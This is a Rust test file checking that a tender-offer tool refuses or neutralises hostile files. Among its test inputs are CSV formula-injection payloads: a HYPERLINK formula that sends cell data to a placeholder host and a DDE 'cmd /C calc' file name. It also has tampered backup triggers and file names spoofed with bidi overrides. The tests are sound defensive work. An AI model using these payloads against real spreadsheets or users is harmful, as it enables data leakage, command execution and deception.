//! Files a stranger sends, through every path they reach: deep nesting,
//! the largest numbers, huge durations, formulas in CSV cells, invisible
//! characters in names, and the store's own guarantees (a won offer is not
//! deleted by the way, a crafted backup is not restored, files are for
//! their owner only). Each case here once crashed, hung, leaked or lost
//! something (docs/safety.md lists the limits and guarantees).

use std::io::Cursor;
use std::path::Path;

use calamine::{Reader, Xlsx};
use offerwright::domain::{Answer, OfferDocument};
use offerwright::export::{docx, pdf, sheet, text};
use offerwright::files;
use offerwright::samples;
use offerwright::store::backup::{self, BackupKind};
use offerwright::store::{self, Store, StoreError, contracts, offers};
use serde_json::Value;

use crate::support::{dump, fixture, fresh_store, offerwright, ok, tool};

fn demo() -> OfferDocument {
    OfferDocument {
        plan: samples::SAMPLE_PLANS
            .iter()
            .map(|(_, text)| files::read_plan(text.as_bytes()).unwrap())
            .find(|p| p.id == samples::DURHAM_SAMPLE)
            .unwrap(),
        tender: samples::demo_tender(),
        offer: samples::demo_offer(),
    }
}

fn demo_json() -> Value {
    serde_json::from_str(&files::write_offer(&demo())).unwrap()
}

fn refused(v: &Value) -> String {
    files::read_offer(&serde_json::to_vec(v).unwrap())
        .expect_err("the file should be refused")
        .to_string()
}

/// Runs `f` on a thread with an ordinary 2 MiB stack: a renderer that
/// recursed once per nesting level would overflow it and abort.
fn on_small_stack<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
    std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(f)
        .unwrap()
        .join()
        .unwrap()
}

fn nested_lists(levels: usize) -> String {
    (0..levels)
        .map(|i| format!("{}- level {i}\n", "  ".repeat(i)))
        .collect()
}

#[test]
fn markdown_nested_past_sixteen_levels_is_refused_with_its_field() {
    let mut v = demo_json();
    v["answers"][0]["text"] = Value::from(">".repeat(199_990));
    assert_eq!(
        refused(&v),
        "answers[0].text: the Markdown nests quotes or lists 199990 levels deep, more than the 16 Offerwright reads: flatten it"
    );
    v["answers"][0]["text"] = Value::from(nested_lists(400));
    assert_eq!(
        refused(&v),
        "answers[0].text: the Markdown nests quotes or lists 400 levels deep, more than the 16 Offerwright reads: flatten it"
    );
    // The limit itself is accepted; one more is not.
    v["answers"][0]["text"] = Value::from(format!("{}sixteen", "> ".repeat(16)));
    files::read_offer(&serde_json::to_vec(&v).unwrap()).expect("16 levels are read");
    v["answers"][0]["text"] = Value::from(format!("{}seventeen", "> ".repeat(17)));
    assert!(refused(&v).contains("17 levels deep"));

    // The editor's writes are checked by the same rule.
    let (_dir, mut store) = fresh_store();
    let made = offerwright::ops::demo::create_demo(&mut store).unwrap();
    let err = store
        .write(|tx| offers::set_answer(tx, made.offer_id, "sv1", &nested_lists(17)))
        .unwrap_err();
    assert_eq!(
        err.to_string(),
        "answer.text: the Markdown nests quotes or lists 17 levels deep, more than the 16 Offerwright reads: flatten it"
    );

    // The command line says so in one line, and exits.
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("deep.svoffer.json");
    v["answers"][0]["text"] = Value::from(">".repeat(199_990));
    std::fs::write(&file, serde_json::to_vec(&v).unwrap()).unwrap();
    for args in [
        vec!["offer", "pdf", file.to_str().unwrap(), "out.pdf"],
        vec!["offer", "docx", file.to_str().unwrap(), "out.docx"],
        vec!["offer", "text", file.to_str().unwrap(), "out"],
        vec!["offer", "score", file.to_str().unwrap()],
        vec!["offer", "import", file.to_str().unwrap()],
    ] {
        let out = offerwright(dir.path(), &args);
        assert!(!out.status.success(), "{args:?}");
        let err = String::from_utf8(out.stderr).unwrap();
        assert!(
            err.contains("answers[0].text: the Markdown nests quotes or lists 199990 levels deep")
                && err.lines().count() == 1,
            "{args:?}: {err}"
        );
    }
}

#[test]
fn the_renderers_keep_any_nesting_flat_on_an_ordinary_stack() {
    // Data that never passed a file's checks (made in memory) still
    // renders: the renderers bound their own depth.
    for answer in [
        ">".repeat(199_990),
        nested_lists(400),
        format!("{}deep", "> - ".repeat(300)),
    ] {
        let mut doc = demo();
        doc.offer.answers = vec![Answer {
            question: "sv1".to_owned(),
            text: answer,
        }];
        on_small_stack(move || {
            let today = chrono::NaiveDate::from_ymd_opt(2026, 12, 1).unwrap();
            pdf::submission(&doc, today).unwrap();
            pdf::review(&doc, today).unwrap();
            docx::submission(&doc, today).unwrap();
            let portal = text::answers(&doc);
            assert!(
                portal[0].text.contains("level 399")
                    || portal[0].text.contains("deep")
                    || portal[0].text.is_empty()
            );
        });
    }
}

#[test]
fn a_contract_longer_than_fifty_years_is_refused_before_anything_counts_its_periods() {
    for months in [601_u64, 1_200_000, 4_000_000_000, 4_294_967_295] {
        let mut v = demo_json();
        v["tender"]["duration_months"] = Value::from(months);
        assert_eq!(
            refused(&v),
            format!(
                "tender.duration_months: expected a whole number of months from 1 to 600 (fifty years), found {months}"
            )
        );
    }
    // Fifty years, reported monthly: 600 periods, read, scored and reported.
    let mut v = demo_json();
    v["tender"]["duration_months"] = Value::from(600);
    let doc = files::read_offer(&serde_json::to_vec(&v).unwrap()).unwrap();
    let delivery = offerwright::domain::Delivery {
        awarded_on: doc.tender.deadline,
        start: doc.tender.contract_start.unwrap(),
        reporting: offerwright::domain::Frequency::Monthly,
        records: Vec::new(),
    };
    assert_eq!(delivery.period_count(600), 600);
    assert_eq!(delivery.periods(600).len(), 600);
    let today = chrono::NaiveDate::from_ymd_opt(2026, 12, 1).unwrap();
    pdf::progress_report(&doc, &delivery, None, today).unwrap();
}

#[test]
fn the_largest_decimal_is_refused_and_the_largest_accepted_ones_add_up() {
    let mut plan: Value =
        serde_json::from_slice(&std::fs::read(fixture("hand-written.svplan.json")).unwrap())
            .unwrap();
    plan["hot_topics"][0]["weight"] = Value::from("79228162514264337593543950335");
    let err = files::read_plan(&serde_json::to_vec(&plan).unwrap()).unwrap_err();
    assert_eq!(
        err.to_string(),
        "hot_topics[0].weight: expected a decimal of at most 1000000000000 (a million million), found \"79228162514264337593543950335\""
    );
    let mut v = demo_json();
    v["commitments"][0]["quantity"] = Value::from("1000000000000.0000000000000001");
    assert!(
        refused(&v)
            .starts_with("commitments[0].quantity: expected a decimal of at most 1000000000000")
    );

    // Every weight, value and quantity at the largest accepted: the plan
    // shows, the offer scores and exports, the contract reports.
    let max = "1000000000000";
    let mut v = demo_json();
    for t in v["plan"]["hot_topics"].as_array_mut().unwrap() {
        t["weight"] = Value::from(max);
    }
    for m in v["plan"]["measures"].as_array_mut().unwrap() {
        if m.get("proxy_value").is_some_and(|p| !p.is_null()) {
            m["proxy_value"] = Value::from(max);
        }
    }
    for c in v["commitments"].as_array_mut().unwrap() {
        c["quantity"] = Value::from(max);
    }
    v["tender"]["contract_value"] = Value::from(max);
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("max.svoffer.json");
    std::fs::write(&file, serde_json::to_vec(&v).unwrap()).unwrap();
    let plan_file = dir.path().join("max.svplan.json");
    std::fs::write(&plan_file, serde_json::to_vec(&v["plan"]).unwrap()).unwrap();
    let f = file.to_str().unwrap();
    ok(
        dir.path(),
        &["plan", "import", plan_file.to_str().unwrap(), "--replace"],
    );
    let shown = ok(dir.path(), &["plan", "show", "durham-sample"]);
    assert!(shown.contains("County Durham"), "{shown}");
    let out = offerwright(dir.path(), &["plan", "pdf", "durham-sample", "plan.pdf"]);
    assert!(out.status.code().is_some(), "plan pdf ended normally");
    ok(dir.path(), &["offer", "score", f, "--json"]);
    ok(dir.path(), &["offer", "pdf", f, "out.pdf"]);
    ok(dir.path(), &["offer", "csv", f, "out.csv"]);
    let imported = ok(dir.path(), &["offer", "import", f, "--json"]);
    let id = serde_json::from_str::<Value>(&imported).unwrap()["id"].to_string();
    ok(
        dir.path(),
        &["contract", "award", &id, "--reporting", "quarterly"],
    );
    for period in ["1", "2"] {
        ok(
            dir.path(),
            &[
                "contract",
                "record",
                &id,
                "--period",
                period,
                "--commitment",
                "c1",
                "--achieved",
                max,
                "--by",
                "Jo",
            ],
        );
    }
    ok(dir.path(), &["contract", "status", &id]);
    ok(
        dir.path(),
        &["contract", "report", &id, "report.pdf", "--end"],
    );
    ok(
        dir.path(),
        &["contract", "report", &id, "report.xlsx", "--period", "2"],
    );
    let out = offerwright(
        dir.path(),
        &[
            "contract",
            "record",
            &id,
            "--period",
            "3",
            "--commitment",
            "c1",
            "--achieved",
            "79228162514264337593543950335",
            "--by",
            "Jo",
        ],
    );
    assert!(!out.status.success());
    assert!(
        String::from_utf8(out.stderr)
            .unwrap()
            .contains("expected a decimal of at most 1000000000000")
    );
}

/// Every cell of a CSV as a spreadsheet engine reads it: LibreOffice
/// converts it to .xlsx (evaluating formulas, as spreadsheets do on
/// opening a CSV), and calamine reads back each cell's value and formula.
fn spreadsheet_cells(csv: &[u8]) -> Vec<(String, String)> {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("sheet.csv");
    std::fs::write(&input, csv).unwrap();
    let out = tool("soffice")
        .arg(format!(
            "-env:UserInstallation=file://{}",
            dir.path().join("profile").display()
        ))
        .args([
            "--headless",
            "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
            "--convert-to",
            "xlsx",
            "--outdir",
        ])
        .arg(dir.path())
        .arg(&input)
        .env("HOME", dir.path())
        .output()
        .unwrap();
    let xlsx = dir.path().join("sheet.xlsx");
    assert!(
        out.status.success() && xlsx.exists(),
        "LibreOffice could not convert the CSV: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut book: Xlsx<_> =
        calamine::open_workbook_from_rs(Cursor::new(std::fs::read(&xlsx).unwrap())).unwrap();
    let name = book.sheet_names()[0].clone();
    let values = book.worksheet_range(&name).unwrap();
    let formulas = book.worksheet_formula(&name).unwrap();
    let mut cells = Vec::new();
    for (r, row) in values.rows().enumerate() {
        for (c, value) in row.iter().enumerate() {
            let formula = formulas
                .get_value((
                    u32::try_from(r).unwrap() + values.start().unwrap().0,
                    u32::try_from(c).unwrap() + values.start().unwrap().1,
                ))
                .cloned()
                .unwrap_or_default();
            cells.push((value.to_string(), formula));
        }
    }
    cells
}

#[test]
fn the_spreadsheet_engine_runs_no_formula_from_any_csv() {
    // The test itself can fail: a raw formula cell is run.
    let raw = spreadsheet_cells(b"a\r\n=1+2\r\n");
    assert!(raw.iter().any(|(_, f)| f == "1+2"), "{raw:?}");

    let formulas = [
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Open\")",
        "=1+2",
        "+SUM(A1:A3)",
        "@SUM(A1:A3)",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
    ];
    let mut doc = demo();
    doc.offer.bidder.name = formulas[0].to_owned();
    for (c, what) in doc.offer.commitments.iter_mut().zip(&formulas[1..]) {
        c.what = (*what).to_owned();
        c.owner = Some((*what).to_owned());
    }
    let csv = sheet::csv(&doc).unwrap();
    let cells = spreadsheet_cells(&csv);
    assert!(
        cells.iter().all(|(_, f)| f.is_empty()),
        "a formula: {cells:?}"
    );
    for what in formulas[1..].iter().take(doc.offer.commitments.len()) {
        let written = format!("'{what}");
        assert!(
            cells.iter().any(|(v, _)| *v == written),
            "{written:?} is kept as text: {cells:?}"
        );
    }
    // Quantities stay numbers a sheet can add up.
    let quantity = doc.offer.commitments[0].quantity.unwrap().to_string();
    assert!(cells.iter().any(|(v, _)| *v == quantity), "{cells:?}");

    // The workshop's CSV: participants named as formulas, and tied ranks.
    let pack = offerwright::domain::Workshop {
        title: "=1+2".to_owned(),
        instructions: "Write.".to_owned(),
        plan: doc.plan.clone(),
        tender: doc.tender.clone(),
        model_offer: None,
    };
    let files: Vec<(String, Result<Vec<u8>, files::FileError>)> = formulas
        .iter()
        .enumerate()
        .map(|(i, name)| {
            let mut one = demo();
            one.offer.bidder.name = format!("{name} {i}");
            (
                format!("{i}=cmd|' /C calc'!A0.svoffer.json"),
                Ok(files::write_offer(&one).into_bytes()),
            )
        })
        .collect();
    let collected = offerwright::workshop::collect_files(files, &pack);
    let comparison = offerwright::workshop::compare(&pack, &collected, false);
    assert!(
        comparison.rows.iter().any(|r| r.tied),
        "identical offers tie"
    );
    let csv = offerwright::workshop::csv(&comparison);
    assert!(!csv.contains("\r\n=") && !csv.contains(",="), "{csv}");
    let cells = spreadsheet_cells(csv.as_bytes());
    assert!(
        cells.iter().all(|(_, f)| f.is_empty()),
        "a formula: {cells:?}"
    );
    assert!(
        cells.iter().any(|(v, _)| v == "1="),
        "a shared first place: {cells:?}"
    );
}

#[test]
fn a_won_offer_is_deleted_only_on_purpose_and_after_a_backup() {
    let (dir, mut store) = fresh_store();
    let made = offerwright::ops::demo::create_demo(&mut store).unwrap();
    let id = made.offer_id;
    let award = contracts::Award {
        start: chrono::NaiveDate::from_ymd_opt(2027, 4, 1).unwrap(),
        reporting: offerwright::domain::Frequency::Quarterly,
    };
    store
        .write(|tx| {
            contracts::award(
                tx,
                id,
                &award,
                chrono::NaiveDate::from_ymd_opt(2027, 3, 1).unwrap(),
            )
        })
        .unwrap();
    let record = contracts::NewRecord {
        commitment: "c1".to_owned(),
        period: 1,
        achieved: rust_decimal::Decimal::from(2),
        note: None,
        evidence: Vec::new(),
        recorded_by: "Jo".to_owned(),
    };
    store
        .write(|tx| contracts::record(tx, id, &record))
        .unwrap();
    let before = dump(&store);

    let err = store.write(|tx| offers::delete(tx, id)).unwrap_err();
    assert!(matches!(err, StoreError::Won { records: 1, .. }), "{err:?}");
    assert!(
        err.to_string().contains("and 1 delivery figure is recorded: deleting it deletes its contract and every figure recorded, so it is not deleted unless you say so"),
        "{err}"
    );
    assert!(store.write(|tx| contracts::withdraw(tx, id)).is_err());

    // The schema's triggers keep it too, whatever the code does.
    for sql in [
        "DELETE FROM offers WHERE id = ?1",
        "DELETE FROM delivery_records WHERE offer_id = ?1",
        "DELETE FROM contracts WHERE offer_id = ?1",
        "UPDATE contracts SET start = '2030-01-01' WHERE offer_id = ?1",
        "DELETE FROM commitments WHERE offer_id = ?1",
        "UPDATE commitments SET quantity = '99' WHERE offer_id = ?1",
        "INSERT INTO answers (offer_id, position, question, text) VALUES (?1, 9, 'sv9', 'x')",
        "DELETE FROM answers WHERE offer_id = ?1",
        "UPDATE offers SET bidder_name = 'Someone else' WHERE id = ?1",
    ] {
        let err = store.write(|tx| Ok(tx.execute(sql, [id])?)).expect_err(sql);
        assert!(matches!(err, StoreError::Conflict(_)), "{sql}: {err:?}");
    }
    assert_eq!(dump(&store), before, "nothing changed");

    // Said on purpose: a backup first, then all of it goes.
    let backup = contracts::delete_won(&mut store, id).unwrap().unwrap();
    assert_eq!(backup.kind, BackupKind::BeforeDelete);
    assert!(offers::get(store.conn(), id).is_err());
    let left: i64 = store
        .conn()
        .query_row("SELECT count(*) FROM delivery_records", [], |r| r.get(0))
        .unwrap();
    assert_eq!(left, 0);
    drop(store);
    let file = dir.path().join(store::STORE_FILE);
    backup::restore(&file, Path::new(&backup.path)).unwrap();
    let store = Store::open(&file).unwrap();
    assert!(
        contracts::find(store.conn(), id).unwrap().is_some(),
        "undone"
    );
}

/// A copy of a fresh store's backup, changed by another program.
fn crafted_backup(dir: &Path, change: &str) -> std::path::PathBuf {
    let (_d, store) = fresh_store();
    let target = dir.join(format!("crafted-{}.sqlite3", change.len()));
    backup::back_up_to(&store, &target).unwrap();
    let conn = rusqlite::Connection::open(&target).unwrap();
    conn.execute_batch(change).unwrap();
    drop(conn);
    target
}

#[test]
fn a_backup_whose_schema_was_changed_is_never_restored() {
    let (dir, mut store) = fresh_store();
    offerwright::ops::demo::create_demo(&mut store).unwrap();
    let file = store.path().to_path_buf();
    let before = dump(&store);
    let backups_before = backup::list_backups(&file).unwrap();
    drop(store);
    let elsewhere = tempfile::tempdir().unwrap();
    for (change, says) in [
        (
            "DROP TRIGGER delivery_records_are_kept;",
            "the trigger delivery_records_are_kept is missing",
        ),
        (
            "CREATE TRIGGER rewrite AFTER INSERT ON answers BEGIN UPDATE answers SET text = 'pwned'; END;",
            "the trigger rewrite was added",
        ),
        (
            "DROP TRIGGER won_offers_keep_their_row; CREATE TRIGGER won_offers_keep_their_row BEFORE UPDATE ON offers BEGIN SELECT 1; END;",
            "the trigger won_offers_keep_their_row was changed",
        ),
        ("CREATE TABLE extra (x);", "the table extra was added"),
        ("CREATE VIEW v AS SELECT 1;", "the view v was added"),
    ] {
        let crafted = crafted_backup(elsewhere.path(), change);
        let err = backup::restore(&file, &crafted).unwrap_err();
        assert!(
            err.to_string().contains(&format!(
                "its tables are not the ones Offerwright makes for store version {} ({says}): it was changed by another program, so it is not restored",
                store::latest_version()
            )),
            "{change}: {err}"
        );
    }
    let store = Store::open_dir(dir.path()).unwrap();
    assert_eq!(dump(&store), before, "the store is as it was");
    assert_eq!(
        backup::list_backups(&file).unwrap().len(),
        backups_before.len() + 1,
        "no backup before a restore that never happened (only today's daily one)"
    );
}

#[test]
fn a_backup_with_data_that_cannot_be_read_leaves_the_store_untouched() {
    let (dir, mut store) = fresh_store();
    offerwright::ops::demo::create_demo(&mut store).unwrap();
    let file = store.path().to_path_buf();
    let before = dump(&store);
    drop(store);
    let elsewhere = tempfile::tempdir().unwrap();
    let (_d, mut other) = fresh_store();
    offerwright::ops::demo::create_demo(&mut other).unwrap();
    let crafted = elsewhere.path().join("bad-value.sqlite3");
    backup::back_up_to(&other, &crafted).unwrap();
    let conn = rusqlite::Connection::open(&crafted).unwrap();
    conn.execute("UPDATE tenders SET contract_value = 'lots'", [])
        .unwrap();
    drop(conn);
    let err = backup::restore(&file, &crafted).unwrap_err();
    assert!(
        err.to_string()
            .starts_with("the store holds a value it cannot read (the backup holds data this Offerwright cannot read"),
        "{err}"
    );
    let store = Store::open_dir(dir.path()).unwrap();
    assert_eq!(dump(&store), before);
    let leftovers: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".restoring-"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn a_restore_never_prunes_the_backup_it_just_made_even_with_the_clock_behind() {
    let (_dir, mut store) = fresh_store();
    offerwright::ops::demo::create_demo(&mut store).unwrap();
    let file = store.path().to_path_buf();
    let folder = backup::backup_dir(&file);
    let made = backup::back_up(&store, BackupKind::Manual).unwrap();
    drop(store);
    // Backups from a clock that ran ahead.
    for n in 0..BackupKind::BeforeRestore.keep() + 2 {
        std::fs::copy(
            &made.path,
            folder.join(format!(
                "offerwright-2099-01-0{}-120000-before-restore.sqlite3",
                n + 1
            )),
        )
        .unwrap();
    }
    let restored = backup::restore(&file, Path::new(&made.path)).unwrap();
    let previous = restored.previous.unwrap();
    assert!(
        Path::new(&previous.path).exists(),
        "the undo of this restore is kept"
    );
    let kept = backup::list_backups(&file)
        .unwrap()
        .into_iter()
        .filter(|b| b.kind == BackupKind::BeforeRestore)
        .count();
    assert_eq!(kept, BackupKind::BeforeRestore.keep());
}

#[cfg(unix)]
#[test]
fn exports_are_for_colleagues_and_the_store_for_its_owner() {
    use std::os::unix::fs::PermissionsExt as _;
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let cli = crate::support::cli_binary().display().to_string();
    for (umask, export_mode) in [
        ("022", 0o644),
        ("002", 0o664),
        ("077", 0o600),
        ("000", 0o666),
    ] {
        let out_dir = dir.path().join(format!("out-{umask}"));
        std::fs::create_dir(&out_dir).unwrap();
        let script = format!(
            "umask {umask} && {cli} --data-dir {d} demo >/dev/null && {cli} --data-dir {d} offer pdf 1 {o}/offer.pdf && {cli} --data-dir {d} offer csv 1 {o}/offer.csv && {cli} --data-dir {d} offer docx 1 {o}/offer.docx && {cli} --data-dir {d} offer export 1 {o}/offer.svoffer.json && {cli} --data-dir {d} backup",
            d = data.display(),
            o = out_dir.display(),
        );
        let out = std::process::Command::new("sh")
            .args(["-c", &script])
            .env_remove("OFFERWRIGHT_DATA_DIR")
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        for name in ["offer.pdf", "offer.csv", "offer.docx", "offer.svoffer.json"] {
            assert_eq!(
                mode(&out_dir.join(name)),
                export_mode,
                "{name} under umask {umask}"
            );
        }
        assert_eq!(mode(&data), 0o700, "the data folder under umask {umask}");
        assert_eq!(mode(&data.join(store::STORE_FILE)), 0o600, "the store");
        let backups = data.join(backup::BACKUP_DIR);
        assert_eq!(mode(&backups), 0o700, "the backups folder");
        for b in std::fs::read_dir(&backups).unwrap() {
            let b = b.unwrap().path();
            assert_eq!(mode(&b), 0o600, "{}", b.display());
        }
    }
    // A store an earlier version left readable is made private on open.
    let store_file = data.join(store::STORE_FILE);
    std::fs::set_permissions(&store_file, std::fs::Permissions::from_mode(0o644)).unwrap();
    drop(Store::open(&store_file).unwrap());
    assert_eq!(mode(&store_file), 0o600);
}

#[cfg(unix)]
#[test]
fn the_collector_reads_regular_files_only_and_within_its_limits() {
    let dir = tempfile::tempdir().unwrap();
    let room = dir.path();
    let pack_doc = demo();
    let pack = offerwright::domain::Workshop {
        title: "Room".to_owned(),
        instructions: "Write.".to_owned(),
        plan: pack_doc.plan.clone(),
        tender: pack_doc.tender.clone(),
        model_offer: None,
    };
    let offer = |name: &str| {
        let mut doc = demo();
        doc.offer.bidder.name = name.to_owned();
        files::write_offer(&doc)
    };
    std::fs::write(room.join("a.svoffer.json"), offer("Alpha")).unwrap();
    std::fs::write(room.join(".hidden.svoffer.json"), offer("Hidden")).unwrap();
    std::fs::write(room.join("\u{1b}[31mred\u{202e}.svoffer.json"), "not JSON").unwrap();
    std::os::unix::fs::symlink(room.join("a.svoffer.json"), room.join("link.svoffer.json"))
        .unwrap();
    std::os::unix::fs::symlink("/dev/zero", room.join("zero.svoffer.json")).unwrap();
    std::fs::create_dir(room.join("folder.svoffer.json")).unwrap();
    let fifo = tool("mkfifo")
        .arg(room.join("pipe.svoffer.json"))
        .status()
        .unwrap();
    assert!(fifo.success());

    let collected = offerwright::workshop::collect(room, &pack).unwrap();
    let status = |name: &str| {
        collected
            .files
            .iter()
            .find(|f| f.file == name)
            .unwrap_or_else(|| panic!("{name} is not reported: {:?}", collected.files))
            .description
            .clone()
    };
    assert_eq!(status("a.svoffer.json"), "compared: the offer from Alpha");
    assert_eq!(
        status(".hidden.svoffer.json"),
        "not read: it is a hidden file (its name starts with a dot)"
    );
    assert_eq!(
        status("link.svoffer.json"),
        "not read: it is a symbolic link, and only files themselves are collected"
    );
    assert_eq!(
        status("zero.svoffer.json"),
        "not read: it is a symbolic link, and only files themselves are collected"
    );
    assert_eq!(status("folder.svoffer.json"), "not read: it is a folder");
    assert_eq!(
        status("pipe.svoffer.json"),
        "not read: it is a named pipe, not a file"
    );
    assert!(
        status("<U+001B>[31mred<U+202E>.svoffer.json")
            .starts_with("not an offer file Offerwright can read"),
        "{:?}",
        collected.files
    );
    assert_eq!(collected.offers.len(), 1);

    // Limits on the number of files and on their total size.
    let limited = offerwright::workshop::collect_limited(room, &pack, 1, 1 << 30).unwrap();
    assert!(limited.files.iter().any(|f| f.description
        == "not read: the folder has more than 1 offer files, and a comparison reads at most 1: split them into several folders"));
    let small = offerwright::workshop::collect_limited(room, &pack, 100, 4096).unwrap();
    assert!(small.files.iter().any(|f| f.description
        == "not read: the offer files of this folder come to more than 4 KiB, the most a comparison reads: split them into several folders"));

    // The command line prints the names escaped.
    let pack_file = room.join("pack.svworkshop.json");
    std::fs::write(&pack_file, files::write_workshop(&pack)).unwrap();
    let out = offerwright(
        room,
        &[
            "workshop",
            "compare",
            room.to_str().unwrap(),
            "--pack",
            pack_file.to_str().unwrap(),
        ],
    );
    let printed = String::from_utf8(out.stdout).unwrap();
    assert!(
        printed.contains("<U+001B>[31mred<U+202E>.svoffer.json"),
        "{printed}"
    );
    assert!(
        !printed.contains('\u{1b}') && !printed.contains('\u{202e}'),
        "{printed}"
    );
}

#[test]
fn names_with_bidi_or_zero_width_characters_are_refused_where_they_are_written() {
    for (c, named) in [
        ('\u{202E}', "U+202E (RIGHT-TO-LEFT OVERRIDE)"),
        ('\u{2066}', "U+2066 (LEFT-TO-RIGHT ISOLATE)"),
        ('\u{200B}', "U+200B (ZERO WIDTH SPACE)"),
        ('\u{FEFF}', "U+FEFF (ZERO WIDTH NO-BREAK SPACE)"),
    ] {
        let mut v = demo_json();
        v["bidder"]["name"] = Value::from(format!("Wear Valley{c} Kitchens"));
        assert_eq!(
            refused(&v),
            format!(
                "bidder.name: this text contains {named}, an invisible character that can make a name show as something it is not: remove it"
            )
        );
    }
    // Joiners and direction marks that real names need are kept.
    let mut v = demo_json();
    v["bidder"]["name"] =
        Value::from("\u{645}\u{200C}\u{62D} \u{200F}Kitchens \u{1F469}\u{200D}\u{1F373}");
    files::read_offer(&serde_json::to_vec(&v).unwrap()).expect("a name with joiners");

    // The editor's writes are checked by the same rule.
    let (_dir, mut store) = fresh_store();
    let made = offerwright::ops::demo::create_demo(&mut store).unwrap();
    let mut bidder = offers::get(store.conn(), made.offer_id)
        .unwrap()
        .offer
        .bidder;
    bidder.name = "Evil\u{202E}gnp.exe".to_owned();
    let err = store
        .write(|tx| offers::set_bidder(tx, made.offer_id, &bidder))
        .unwrap_err();
    assert!(
        err.to_string()
            .starts_with("bidder.name: this text contains U+202E"),
        "{err}"
    );
}
